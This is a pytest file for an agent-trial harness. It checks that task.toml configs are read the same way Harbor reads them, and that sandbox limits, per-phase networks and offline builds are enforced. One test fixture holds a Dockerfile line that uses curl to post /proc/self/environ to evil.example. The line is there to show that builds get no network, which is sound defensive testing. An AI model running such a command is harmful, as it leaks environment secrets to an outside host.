"""task.toml read once into one typed model that follows Harbor 0.26's (harbor/models/task/config.py):
its defaults, the deprecated allow_internet, allowlists, per-phase network overrides, bad types;
what a trial makes of it (timeouts, [verifier].env, the network of each podman phase, memory)."""

from __future__ import annotations

import json
import subprocess
import tomllib

import pytest

from otbuild.harness.config import TrialConfig, effective_timeout, trial_timeouts
from otbuild.settings.trials import Trials
from otbuild.sandbox import Limits, task_limits
from otbuild.sandbox.podman.network import NetworkPolicyError, TrialNetworks, trial_networks
from otbuild.tasks.task_toml import (
    ALLOWLIST,
    NO_NETWORK,
    PUBLIC,
    NetworkPolicy,
    TaskConfig,
    parse_task_toml,
    resolve_env,
    task_config,
    task_metadata,
)
from otbuild.tasks.taskdir import TaskDir, TaskFormatError
from otbuild.traces.table import reward_text
from tests.conftest import REPO

HARBOR_PY = REPO / ".venv-harbor" / "bin" / "python"


def config(text: str, name: str = "t") -> TaskConfig:
    return TaskConfig.from_toml(tomllib.loads(text), name)


def task(toml: str | None, name: str = "t") -> TaskDir:
    t = TaskDir(name)
    t.add("instruction.md", "Do it.\n")
    if toml is not None:
        t.add("task.toml", toml)
    return t


# -- the model ------------------------------------------------------------------------------
def test_harbor_defaults():
    for c in (config('version = "1.0"\n'), task_config(task(None))):
        assert c.agent.timeout_sec is None  # no agent limit unless the task sets one
        assert c.verifier.timeout_sec == 600.0 and c.verifier.env == {}
        env = c.environment
        assert env.build_timeout_sec == 600.0
        assert (env.docker_image, env.cpus, env.memory_mb, env.storage_mb) == (None, None, None, None)
        assert c.agent_network == c.verifier_network == env.network == NetworkPolicy(PUBLIC)


def test_fields_as_harbor_reads_them():
    c = config(
        '[agent]\ntimeout_sec = 120.0\n[verifier]\ntimeout_sec = 30\n[verifier.env]\nMODE = "strict"\n'
        '[environment]\nbuild_timeout_sec = 1800.0\ndocker_image = "ghcr.io/x/y:1"\ncpus = 2\n'
        'memory_mb = 2048\nstorage_mb = 10240\n[metadata]\ndifficulty = "hard"\n'
    )
    assert (c.agent.timeout_sec, c.verifier.timeout_sec, c.verifier.env) == (120.0, 30, {"MODE": "strict"})
    env = c.environment
    assert (env.build_timeout_sec, env.docker_image, env.cpus, env.memory_mb, env.storage_mb) == (
        1800.0,
        "ghcr.io/x/y:1",
        2,
        2048,
        10240,
    )
    assert c.metadata == {"difficulty": "hard"}
    # the deprecated size strings
    old = config('[environment]\nmemory = "2G"\nstorage = "512M"\n').environment
    assert (old.memory_mb, old.storage_mb) == (2048, 512)


@pytest.mark.parametrize(
    ("env", "mode"),
    [
        ("", PUBLIC),
        ("allow_internet = true\n", PUBLIC),
        ("allow_internet = false\n", NO_NETWORK),
        ('network_mode = "no-network"\n', NO_NETWORK),
        ('network_mode = "public"\nallow_internet = false\n', PUBLIC),  # the explicit mode wins, as in Harbor
    ],
)
def test_network_mode_and_the_deprecated_allow_internet(env, mode):
    assert config(f"[environment]\n{env}").environment.network.mode == mode


def test_allowlist_and_per_phase_overrides():
    c = config(
        '[environment]\nnetwork_mode = "allowlist"\nallowed_hosts = ["PyPI.org.", "*.pythonhosted.org", '
        '"10.0.0.0/8", "2001:DB8::1"]\n'
    )
    assert c.environment.network == NetworkPolicy(
        ALLOWLIST, ("pypi.org", "*.pythonhosted.org", "10.0.0.0/8", "2001:db8::1")
    )
    assert c.agent_network == c.verifier_network == c.environment.network
    assert config('[environment]\nnetwork_mode = "allowlist"\n').environment.network.offline  # no host: none

    # an offline agent, a verifier that installs its test runner from the internet
    c = config('[environment]\nnetwork_mode = "no-network"\n[verifier]\nnetwork_mode = "public"\n')
    assert (c.agent_network.mode, c.verifier_network.mode) == (NO_NETWORK, PUBLIC)
    # the agent's override is the agent's alone: the verifier keeps the environment's policy
    c = config('[agent]\nnetwork_mode = "no-network"\n')
    assert (c.agent_network.mode, c.verifier_network.mode) == (NO_NETWORK, PUBLIC)
    c = config(
        '[environment]\nallow_internet = false\n[agent]\nnetwork_mode = "allowlist"\n'
        'allowed_hosts = ["api.example.com"]\n'
    )
    assert c.agent_network == NetworkPolicy(ALLOWLIST, ("api.example.com",))
    assert c.verifier_network.mode == NO_NETWORK


@pytest.mark.parametrize(
    ("toml", "key"),
    [
        ('[agent]\ntimeout_sec = "soon"\n', "[agent] timeout_sec"),
        ("[verifier]\ntimeout_sec = true\n", "[verifier] timeout_sec"),
        ("[verifier]\ntimeout_sec = -1\n", "[verifier] timeout_sec"),
        ('[environment]\nbuild_timeout_sec = "10m"\n', "[environment] build_timeout_sec"),
        ("[environment]\nmemory_mb = 1.5\n", "[environment] memory_mb"),
        ('[environment]\ncpus = "2"\n', "[environment] cpus"),
        ("[environment]\ndocker_image = 3\n", "[environment] docker_image"),
        ('[environment]\nmemory = "lots"\n', "[environment] memory"),
        ('[environment]\nmemory = "1G"\nmemory_mb = 2048\n', "[environment] memory"),
        ('[environment]\nnetwork_mode = "vpn"\n', "[environment] network_mode"),
        ('[environment]\nallow_internet = "yes"\n', "[environment] allow_internet"),
        ('[environment]\nallowed_hosts = ["pypi.org"]\n', "[environment] allowed_hosts"),  # not an allowlist
        ('[verifier]\nnetwork_mode = "public"\nallowed_hosts = ["pypi.org"]\n', "[verifier] allowed_hosts"),
        ('[agent]\nnetwork_mode = "allowlist"\nallowed_hosts = ["https://pypi.org/simple"]\n', "[agent] allowed_hosts"),
        ('[agent]\nnetwork_mode = "allowlist"\nallowed_hosts = ["pypi.org:443"]\n', "[agent] allowed_hosts"),
        ('[agent]\nnetwork_mode = "allowlist"\nallowed_hosts = ["a.*.org"]\n', "[agent] allowed_hosts"),
        ('[agent]\nnetwork_mode = "allowlist"\nallowed_hosts = "pypi.org"\n', "[agent] allowed_hosts"),
        ("[verifier]\nenv = { N = 1 }\n", "[verifier] env"),
        ('verifier = "fast"\n', "[verifier]"),
    ],
)
def test_bad_values_name_the_task_and_the_key(toml, key):
    with pytest.raises(TaskFormatError, match=rf"task 'bad-one': {key.replace('[', '.').replace(']', '.')}"):
        parse_task_toml(task(toml, "bad-one"))


def test_metadata_keeps_the_timeouts_as_written():
    c = config('[agent]\ntimeout_sec = 10.0\n[verifier]\ntimeout_sec = 5\n[metadata]\ntags = ["a"]\n')
    assert task_metadata(c) == {"tags": ["a"], "agent_timeout_sec": 10.0, "verifier_timeout_sec": 5}
    assert task_metadata(config("")) == {}  # defaults are not the task's own


def test_verifier_env_resolves_host_variables_as_harbor():
    env = {"A": "literal", "B": "${OTB_KEY}", "C": "${OTB_MISSING:-dflt}", "D": "x${OTB_KEY}"}
    assert resolve_env(env, {"OTB_KEY": "k"}) == {"A": "literal", "B": "k", "C": "dflt", "D": "x${OTB_KEY}"}
    with pytest.raises(KeyError, match="OTB_KEY"):
        resolve_env({"B": "${OTB_KEY}"}, {})


# -- what a trial makes of it ---------------------------------------------------------------
def _settings(**trials) -> TrialConfig:
    return TrialConfig(Trials(**trials), "terminus2")


def test_host_variables_a_task_asks_for_are_refused_unless_the_recipe_allows_them():
    """Issue 44 (2): every env table's `${VAR}` (defaults too) is checked against the recipe's host_env."""
    from otbuild.tasks.task_toml import refused_host_env

    c = config(
        '[environment.env]\nA = "${HF_TOKEN}"\nB = "literal"\n[solution.env]\nC = "${REGION:-eu}"\n'
        '[verifier.env]\nD = "${JUDGE_KEY}"\n[[steps]]\nname = "one"\n[steps.verifier.env]\nE = "${AWS_KEY}"\n'
    )
    assert refused_host_env(c, ()) == [
        "[environment].env A: HF_TOKEN",
        "[solution].env C: REGION",
        "[verifier].env D: JUDGE_KEY",
        "[steps.one.verifier].env E: AWS_KEY",
    ]
    assert refused_host_env(c, ("HF_TOKEN", "REGION", "JUDGE_KEY", "AWS_KEY")) == []
    assert Trials().host_env == () and Trials(host_env=["JUDGE_KEY"]).host_env == ("JUDGE_KEY",)
    with pytest.raises(ValueError):
        Trials(host_env=["not a name"])


def test_timeouts_follow_harbor_with_the_recipe_cap():
    none_set, both = config(""), config("[agent]\ntimeout_sec = 300\n[verifier]\ntimeout_sec = 120\n")
    # no agent limit of the task's own: the cap; the verifier: Harbor's 600 s
    assert trial_timeouts(none_set, _settings()) == (7200, 600.0)
    assert trial_timeouts(none_set, _settings(timeout_cap_sec=3600)) == (3600, 600.0)
    # the multiplier scales the verifier as well (Harbor's timeout_multiplier does), both capped
    assert trial_timeouts(both, _settings(timeout_multiplier=4)) == (1200, 480)
    assert trial_timeouts(both, _settings(timeout_multiplier=16, timeout_cap_sec=1000)) == (1000, 1000)
    assert trial_timeouts(both, _settings(agent_timeout_sec=50, timeout_multiplier=2)) == (100, 240)
    assert effective_timeout(None, 16, 7200) == 7200


def test_result_text_is_harbors():
    assert [reward_text(r) for r in (1, 1.0, 0.0, 0.5, 0.25)] == ["1.0", "1.0", "0.0", "0.5", "0.25"]


def test_memory_and_storage_of_the_task():
    recipe = Limits(memory_mb=4096, storage_mb=10240)
    small = task("[environment]\nmemory_mb = 1024\nstorage_mb = 2048\n")
    big = task("[environment]\nmemory_mb = 16384\n")
    # podman: the task's memory is the container's memory limit (Docker's under Harbor), up to the recipe's
    assert (task_limits(small, "podman", recipe).memory_mb, task_limits(big, "podman", recipe).memory_mb) == (
        1024,
        4096,
    )
    # bwrap: an address-space rlimit, which the task does not lower (runtimes map more than they use)
    assert (task_limits(small, "bwrap", recipe).memory_mb, task_limits(big, "bwrap", recipe).memory_mb) == (4096, 4096)
    assert task_limits(small, "bwrap", recipe).storage_mb == 2048
    assert task_limits(task(None), "podman", recipe) == recipe


@pytest.mark.parametrize("backend", ["bwrap", "podman"])
def test_a_task_never_raises_the_recipes_limits_unless_the_recipe_lets_it(backend):
    """Issue 44 (5): `storage_mb = 100000000` would be a tmpfs that size as root; the recipe's
    limits are ceilings a task may only lower, unless `limits.tasks_may_raise`."""
    recipe = Limits(memory_mb=4096, storage_mb=10240)
    greedy = task("[environment]\nmemory_mb = 100000000\nstorage_mb = 100000000\ncpus = 4096\n")
    got = task_limits(greedy, backend, recipe)
    assert (got.memory_mb, got.storage_mb) == (4096, 10240)
    raised = task_limits(greedy, backend, Limits(memory_mb=4096, storage_mb=10240, tasks_may_raise=True))
    assert (raised.memory_mb, raised.storage_mb) == (100000000, 100000000)
    assert "tasks_may_raise" in Trials.model_fields["limits"].annotation.model_fields


def test_a_task_gets_no_more_cpus_or_build_time_than_the_recipe(monkeypatch, tmp_path):
    """Issue 44 (5): a task's cpus are capped at the recipe's limits.cpus (default: the host's),
    its build_timeout_sec at otbuild's own build limit."""
    from otbuild.sandbox.podman import container
    from otbuild.sandbox.podman.images import BUILD_TIMEOUT_SEC

    seen = {}
    monkeypatch.setattr(
        container, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img"
    )
    monkeypatch.setattr(container, "PodmanSandbox", lambda *a, cpus, **k: seen.update(cpus=cpus))
    greedy = task("[environment]\ncpus = 4096\nbuild_timeout_sec = 1e9\n")
    container.open_podman(greedy, tmp_path, Limits(cpus=2), with_solution=False, cleanup=True)
    assert seen == {"cpus": 2.0, "timeout": BUILD_TIMEOUT_SEC}
    container.open_podman(
        task("[environment]\ncpus = 1\n"), tmp_path, Limits(cpus=2), with_solution=False, cleanup=True
    )
    assert seen["cpus"] == 1.0  # lowering is the task's to do


def test_podman_networks_per_phase(monkeypatch):
    monkeypatch.delenv("OTBUILD_PODMAN_NETWORK", raising=False)
    assert trial_networks("t", config("")) == TrialNetworks("podman", "podman")
    assert trial_networks("t", config("[environment]\nallow_internet = false\n")) == TrialNetworks("none", "none")
    split = config('[environment]\nnetwork_mode = "no-network"\n[verifier]\nnetwork_mode = "public"\n')
    assert trial_networks("t", split) == TrialNetworks("none", "podman")
    assert trial_networks("t", split).started_on == "podman"  # then disconnected for the agent
    assert trial_networks("t", split, "none") == TrialNetworks("none", "none")  # the recipe forces it off
    monkeypatch.setenv("OTBUILD_PODMAN_NETWORK", "labnet")
    assert trial_networks("t", config("")) == TrialNetworks("labnet", "labnet")


def test_an_allowlist_is_refused_under_podman_never_widened():
    allow = config(
        '[environment]\nnetwork_mode = "allowlist"\nallowed_hosts = ["pypi.org", "files.pythonhosted.org"]\n',
        "needs-pypi",
    )
    with pytest.raises(
        NetworkPolicyError,
        match=r"task 'needs-pypi': its agent may reach only pypi.org, "
        r"files.pythonhosted.org",
    ):
        trial_networks("needs-pypi", allow)
    verifier_only = config(
        '[environment]\nnetwork_mode = "no-network"\n[verifier]\nnetwork_mode = "allowlist"\n'
        'allowed_hosts = ["pypi.org"]\n'
    )
    with pytest.raises(NetworkPolicyError, match="its verifier may reach only pypi.org"):
        trial_networks("t", verifier_only)
    # offline is narrower than any allowlist: the recipe may force it
    assert trial_networks("t", allow, "none") == TrialNetworks("none", "none")
    # an allowlist of no hosts is exactly no network
    assert trial_networks("t", config('[environment]\nnetwork_mode = "allowlist"\n')) == TrialNetworks("none", "none")


def test_open_podman_refuses_an_allowlist_before_building(monkeypatch, tmp_path):
    from otbuild.sandbox.podman import container

    built = []
    monkeypatch.setattr(container, "ensure_image", lambda *a, **k: built.append(a) or "img")
    t = task('[environment]\nnetwork_mode = "allowlist"\nallowed_hosts = ["pypi.org"]\n', "allow-task")
    with pytest.raises(NetworkPolicyError, match="allow-task"):
        container.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
    assert built == []


def test_podman_gets_the_build_timeout_and_the_phase_networks(monkeypatch, tmp_path):
    """What open_podman hands podman, without podman: the task's build_timeout_sec bounds the
    build; a split policy starts on the network and is disconnected before the agent runs."""
    from otbuild.sandbox.podman import container

    seen = {}
    monkeypatch.setattr(
        container, "ensure_image", lambda task, image, pull, timeout, network: seen.update(timeout=timeout) or "img"
    )

    class Box:
        def __init__(self, task, root, image, limits, *, cpus, networks, with_solution, cleanup):
            seen.update(networks=networks, cpus=cpus)

    monkeypatch.setattr(container, "PodmanSandbox", Box)
    monkeypatch.delenv("OTBUILD_PODMAN_NETWORK", raising=False)
    t = task(
        '[environment]\nbuild_timeout_sec = 42.0\ncpus = 1\nnetwork_mode = "no-network"\n'
        '[verifier]\nnetwork_mode = "public"\n'
    )
    container.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
    assert seen == {"timeout": 42.0, "networks": TrialNetworks("none", "podman"), "cpus": 1.0}


def test_podman_builds_run_offline_unless_the_recipe_lets_them_fetch(monkeypatch, tmp_path):
    """Issue 44 (8): a Dockerfile's RUN lines are the task's own commands, run at build time: they
    get no network unless the recipe's build_network is public."""
    from otbuild.sandbox.podman import container, images

    builds = []

    def run(argv, **kw):
        builds.append(argv)
        return subprocess.CompletedProcess(argv, 1, "", "RUN curl evil.example: could not resolve host")

    monkeypatch.setattr(images, "image_exists", lambda ref: False)
    monkeypatch.setattr(images, "LOCK_DIR", tmp_path / "locks")
    monkeypatch.setattr(images.subprocess, "run", run)
    t = task(None)
    t.add("environment/Dockerfile", "FROM ubuntu:24.04\nRUN curl -d @/proc/self/environ evil.example\n")
    with pytest.raises(images.ImageBuildError, match="build_network: public"):
        container.open_podman(t, tmp_path, Limits(), with_solution=False, cleanup=True)
    with pytest.raises(images.ImageBuildError):
        container.open_podman(t, tmp_path, Limits(build_network="public"), with_solution=False, cleanup=True)
    offline, online = builds
    assert offline[:2] == ["podman", "build"] and "--network=none" in offline
    assert not any(a.startswith("--network") for a in online)


def test_podman_switches_networks_between_phases(monkeypatch, tmp_path):
    """The calls a PodmanSandbox makes to move its container between phase networks, and its
    refusal when podman leaves it attached to more than the phase allows."""
    from otbuild.sandbox.podman import container
    from otbuild.sandbox.podman.cli import ContainerError

    calls, attached = [], {"podman": {}}

    def fake(*args, **_):
        calls.append(args)
        if args[:2] == ("network", "disconnect"):
            attached.pop(args[2], None)
        elif args[:2] == ("network", "connect"):
            attached[args[2]] = {}
        out = json.dumps([{"NetworkSettings": {"Networks": dict(attached)}}]) if args[0] == "inspect" else ""
        return subprocess.CompletedProcess(args, 0, out, "")

    monkeypatch.setattr(container, "_podman", fake)
    box = object.__new__(container.PodmanSandbox)
    box.container, box.network = "c1", "podman"
    box._switch_network("none", "agent")
    assert calls[0] == ("network", "disconnect", "podman", "c1") and box.network == "none" and not attached
    box._switch_network("podman", "verifier")
    assert ("network", "connect", "podman", "c1") in calls and box.network == "podman"
    n = len(calls)
    box._switch_network("podman", "verifier")  # already there: nothing to do
    assert len(calls) == n

    monkeypatch.setattr(
        container,
        "_podman",
        lambda *a, **k: subprocess.CompletedProcess(
            a, 0, json.dumps([{"NetworkSettings": {"Networks": {"podman": {}}}}]), ""
        ),
    )
    with pytest.raises(ContainerError, match="agent phase needs network 'none'"):
        box._switch_network("none", "agent")  # podman said yes but the container is still attached


# -- Harbor's own model agrees --------------------------------------------------------------
CONTRACT_TOMLS = [
    'version = "1.0"\n',
    '[agent]\ntimeout_sec = 120.0\n[verifier]\ntimeout_sec = 30.0\n[verifier.env]\nK = "v"\n'
    "[environment]\nbuild_timeout_sec = 900.0\ncpus = 2\nmemory_mb = 2048\nstorage_mb = 10240\nallow_internet = false\n",
    '[environment]\nmemory = "2G"\nstorage = "1G"\nallow_internet = true\n',
    '[environment]\nnetwork_mode = "allowlist"\nallowed_hosts = ["PyPI.org.", "*.example.com", "10.0.0.0/8"]\n',
    '[environment]\nnetwork_mode = "no-network"\n[verifier]\nnetwork_mode = "public"\n',
    '[agent]\nnetwork_mode = "allowlist"\nallowed_hosts = ["api.example.com"]\n',
    '[environment.env]\nREGION = "${REGION:-eu}"\n[solution.env]\nSEED = "42"\n',
]

HARBOR_SIDE = """
import json, sys
from harbor.models.task.config import TaskConfig
out = []
for text in json.load(sys.stdin):
    c = TaskConfig.model_validate_toml(text)
    def phase(p):
        return None if p.network_mode is None else [p.network_mode.value, list(p.allowed_hosts or [])]
    e = c.environment
    out.append({"agent_timeout": c.agent.timeout_sec, "verifier_timeout": c.verifier.timeout_sec,
                "verifier_env": c.verifier.env, "build_timeout": e.build_timeout_sec, "cpus": e.cpus,
                "memory_mb": e.memory_mb, "storage_mb": e.storage_mb, "docker_image": e.docker_image,
                "network": [e.network_mode.value, list(e.allowed_hosts or [])],
                "agent_network": phase(c.agent), "verifier_network": phase(c.verifier),
                "environment_env": e.env, "solution_env": c.solution.env})
print(json.dumps(out))
"""


def _ours(c: TaskConfig) -> dict:
    def phase(p):
        return None if p is None else [p.mode, list(p.allowed_hosts)]

    e = c.environment
    return {
        "agent_timeout": c.agent.timeout_sec,
        "verifier_timeout": c.verifier.timeout_sec,
        "verifier_env": c.verifier.env,
        "build_timeout": e.build_timeout_sec,
        "cpus": e.cpus,
        "memory_mb": e.memory_mb,
        "storage_mb": e.storage_mb,
        "docker_image": e.docker_image,
        "network": phase(e.network),
        "agent_network": phase(c.agent.network),
        "verifier_network": phase(c.verifier.network),
        "environment_env": e.env,
        "solution_env": c.solution_env,
    }


@pytest.mark.skipif(not HARBOR_PY.exists(), reason="Harbor is not installed in .venv-harbor: run scripts/harbor-env.sh")
def test_harbors_own_task_config_agrees():
    """Each task.toml written here and every one in ../shared/data/dev's real task dirs: the
    fields otbuild reads are what Harbor's TaskConfig reads."""
    dev = [p.read_text() for p in sorted((REPO.parent / "shared" / "data" / "dev").rglob("task.toml"))]
    tomls = CONTRACT_TOMLS + dev + STEP_TOMLS
    r = subprocess.run(
        [str(HARBOR_PY), "-W", "ignore", "-c", HARBOR_SIDE],
        input=json.dumps(tomls),
        capture_output=True,
        text=True,
        timeout=120,
        check=True,
    )
    theirs = json.loads(r.stdout)
    assert [_ours(config(t)) for t in tomls] == theirs


def _written_tomls() -> list[str]:
    """The distinct task.tomls otbuild's own sources write: its synthetic tasks, and (where
    ../shared/data/dev is there) SWE-bench and SWE-smith instances, Stack Exchange questions,
    nl2bash pairs and converted Terminal-Bench 1 tasks."""
    from otbuild.sources import nl2bash, stackexchange, swe_instances, tb1_dir
    from otbuild.sources.synthetic import generate
    from tests.conftest import source

    records = list(generate(12, seed=1))
    dev = REPO.parent / "shared" / "data" / "dev"
    if dev.is_dir():
        records += [
            *swe_instances.read(source("swe-instances", dev / "swebench_verified" / "instances.jsonl")),
            *swe_instances.read(source("swe-instances", dev / "swesmith")),
            *stackexchange.read(source("stackexchange", dev / "stackexchange")),
            *nl2bash.read(source("nl2bash", dev / "nl2bash" / "nl2bash_pairs.jsonl")),
            *(
                r
                for d in ("evoeval", "tb_core_original")
                for r in tb1_dir.read(source("tb1-dir", dev / "terminal_bench_tasks" / "tb1_format" / d))
            ),
        ]
    return sorted({t for r in records if (t := getattr(r, "task", None) and r.task.text("task.toml"))})


@pytest.mark.skipif(not HARBOR_PY.exists(), reason="Harbor is not installed in .venv-harbor: run scripts/harbor-env.sh")
def test_harbor_loads_every_task_toml_otbuilds_sources_write():
    """Harbor's TaskConfig loads each task.toml otbuild writes, and reads the fields otbuild
    reads from it as otbuild does."""
    tomls = _written_tomls()
    assert len(tomls) > 5
    r = subprocess.run(
        [str(HARBOR_PY), "-W", "ignore", "-c", HARBOR_SIDE],
        input=json.dumps(tomls),
        capture_output=True,
        text=True,
        timeout=300,
        check=False,
    )
    assert r.returncode == 0, r.stderr[-3000:]
    assert [_ours(config(t)) for t in tomls] == json.loads(r.stdout)


# -- keys Harbor runs and otbuild's harness refuses ------------------------------------------
UNSUPPORTED_TOMLS = {  # each a task.toml Harbor 0.26 loads, setting one key the harness does not run
    "steps.one.artifacts": '[[steps]]\nname = "one"\nartifacts = ["/app/out.txt"]\n[[steps]]\nname = "two"\n',
    "steps.one.healthcheck": '[[steps]]\nname = "one"\n[steps.healthcheck]\ncommand = "true"\n',
    "artifacts": 'artifacts = ["/app/out.txt"]\n',
    "verifier.collect": '[[verifier.collect]]\ncommand = "cp /app/out.txt /logs/artifacts/"\n',
    "verifier.environment_mode": '[verifier]\nenvironment_mode = "separate"\n',
}


def test_keys_the_harness_does_not_run_refuse_the_trial_naming_the_key(tmp_path):
    """A task.toml key Harbor honours and otbuild's harness does not is that trial's
    TaskKeyNotSupported (outcome not_run, left out of means), its message naming the key and
    `sandbox: harbor`; never silently ignored. The default `environment_mode = "shared"` are nothing to refuse, and none of the real
    task dirs in ../shared/data/dev is refused."""
    import asyncio

    from otbuild.harness.oracle import OracleEngine
    from otbuild.harness.trial import run_trial
    from otbuild.tasks.task_toml import harness_unsupported
    from otbuild.traces.outcome import NOT_RUN, outcome

    for key, text in UNSUPPORTED_TOMLS.items():
        assert harness_unsupported(config(text)) == [key], key
        t = task(text, name=key.replace(".", "-"))
        row = asyncio.run(run_trial(t, t.task_id(), OracleEngine(), TrialConfig(Trials(), "terminus2"), tmp_path / key))
        message = json.loads(row["metadata"])["exception_message"]
        assert row["exception"] == "TaskKeyNotSupported" and f"task.toml {key} (" in message, message
        assert "sandbox: harbor" in message and row["conversations"] == [] and row["reward"] is None
        assert outcome(row) == NOT_RUN
    assert harness_unsupported(config('[solution.env]\n[verifier]\nenvironment_mode = "shared"\n')) == []
    dev = sorted((REPO.parent / "shared" / "data" / "dev").rglob("task.toml"))
    assert all(harness_unsupported(config(p.read_text(), p.parent.name)) == [] for p in dev)


@pytest.mark.skipif(not HARBOR_PY.exists(), reason="Harbor is not installed in .venv-harbor: run scripts/harbor-env.sh")
def test_harbor_loads_every_task_toml_the_harness_refuses():
    """The refused keys are Harbor's own: its TaskConfig loads each of those task.tomls and
    finds the key set (so `sandbox: harbor` runs what the harness refuses)."""
    code = (
        "import json, sys; from harbor.models.task.config import TaskConfig\n"
        "for text in json.load(sys.stdin):\n"
        "    c = TaskConfig.model_validate_toml(text)\n"
        "    s = (c.steps or [None])[0]\n"
        "    print(bool(s and s.artifacts), bool(s and s.healthcheck), bool(c.artifacts),"
        " bool(c.verifier.collect),"
        " getattr(c.verifier.environment_mode, 'value', None) == 'separate')"
    )
    r = subprocess.run(
        [str(HARBOR_PY), "-W", "ignore", "-c", code],
        input=json.dumps(list(UNSUPPORTED_TOMLS.values())),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    found = [line.split() for line in r.stdout.splitlines()]
    assert [row.index("True") for row in found] == [0, 1, 2, 3, 4]
    assert [row.count("True") for row in found] == [1] * 5


# -- multi-step tasks -----------------------------------------------------------------------
STEP_TOMLS = [  # multi-step task.tomls Harbor 0.26 loads
    '[[steps]]\nname = "write"\n[[steps]]\nname = "append"\n',
    'multi_step_reward_strategy = "final"\n[agent]\ntimeout_sec = 90.0\n[[steps]]\nname = "a"\nmin_reward = 0.5\n'
    '[steps.agent]\ntimeout_sec = 30.0\n[steps.verifier]\ntimeout_sec = 45.0\n[[steps]]\nname = "b"\n',
    'multi_step_reward_strategy = "mean"\n[verifier]\ntimeout_sec = 120.0\n[[steps]]\nname = "only one"\n'
    'min_reward = {reward = 1.0, style = 0.5}\n[steps.verifier.env]\nMODE = "strict"\n',
]


def _our_steps(text: str) -> list:
    c = config(text)
    settings = TrialConfig(Trials(timeout_cap_sec=10_000), "terminus2")
    return [
        c.multi_step_reward_strategy,
        [[s.name, s.min_reward, *trial_timeouts(c, settings, s), s.verifier.env] for s in c.steps],
    ]


@pytest.mark.skipif(not HARBOR_PY.exists(), reason="Harbor is not installed in .venv-harbor: run scripts/harbor-env.sh")
def test_otbuild_reads_a_multi_step_task_as_harbor_does():
    """The same task.tomls through Harbor's TaskConfig and otbuild's: the steps in order, the
    reward strategy (mean when unset, as Harbor's trial takes it), each step's min_reward, its
    agent's and verifier's timeouts (Harbor's trial rules: the step's, else the task's agent
    timeout; the step's verifier its own, 600 s unless set) and its verifier env."""
    code = (
        "import json, sys; from harbor.models.task.config import TaskConfig\n"
        "out = []\n"
        "for text in json.load(sys.stdin):\n"
        "    c = TaskConfig.model_validate_toml(text)\n"
        "    steps = [[s.name, s.min_reward, s.agent.timeout_sec if s.agent.timeout_sec is not None\n"
        "              else c.agent.timeout_sec, s.verifier.timeout_sec if s.verifier.timeout_sec is not None\n"
        "              else c.verifier.timeout_sec, s.verifier.env] for s in c.steps]\n"
        "    out.append([(c.multi_step_reward_strategy or 'mean').__str__().split('.')[-1].lower(), steps])\n"
        "print(json.dumps(out))"
    )
    r = subprocess.run(
        [str(HARBOR_PY), "-W", "ignore", "-c", code],
        input=json.dumps(STEP_TOMLS),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert r.returncode == 0, r.stderr[-2000:]
    cap = 10_000  # otbuild caps a task without an agent timeout of its own: Harbor leaves it unbounded
    harbor = [
        [strategy, [[n, m, cap if a is None else a, v, e] for n, m, a, v, e in steps]]
        for strategy, steps in json.loads(r.stdout)
    ]
    assert harbor == [_our_steps(t) for t in STEP_TOMLS]


@pytest.mark.parametrize(
    "text, key",
    [
        ('[[steps]]\nname = "a/b"\n', "[[steps]] 1 name"),
        ('[[steps]]\nname = "a"\n[[steps]]\nname = "A"\n', "[[steps]] 2 name"),
        ('multi_step_reward_strategy = "max"\n[[steps]]\nname = "a"\n', "multi_step_reward_strategy"),
        ('[[steps]]\nname = "a"\nmin_reward = "high"\n', "[steps.a] min_reward"),
        ('[[steps]]\nname = "a"\n[steps.agent]\ntimeout_sec = "1m"\n', "[steps.a.agent] timeout_sec"),
    ],
)
def test_a_step_harbor_would_refuse_names_its_key(text, key):
    with pytest.raises(TaskFormatError, match=rf"task 't': {__import__('re').escape(key)}"):
        config(text)
